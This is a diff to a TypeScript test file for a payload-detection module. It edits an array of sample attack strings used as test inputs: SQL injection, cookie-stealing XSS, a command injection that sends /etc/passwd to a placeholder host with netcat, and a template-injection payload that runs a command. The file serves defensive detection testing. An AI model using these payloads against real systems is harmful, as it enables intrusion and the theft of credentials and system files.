@@ -3,7 +3,7 @@ import { test } from 'tap'
 import { readEncoded } from '../../src/detect/payload/base64.ts'
 import { inJson, inQuery, inspect } from './payload-observation.ts'
 
-const ATTACKS = ["x' UNION SELECT name, pass FROM users -- ", '<script>alert(document.cookie)</script>', '; cat /etc/passwd | nc 192.0.2.1 80', '{{7*7}}${T(java.lang.Runtime).getRuntime().exec("id")}', "1' OR '1'='1' -- ё"]
+const ATTACKS = ["x' UNION SELECT name, pass FROM users -- ", '<script>alert(document.cookie)</script>', '; cat /etc/passwd | nc 192.0.2.1 80', '{{7*7}}$' + '{T(java.lang.Runtime).getRuntime().exec("id")}', "1' OR '1'='1' -- ё"]
 
 function base64 (text: string): string {
   return Buffer.from(text).toString('base64')
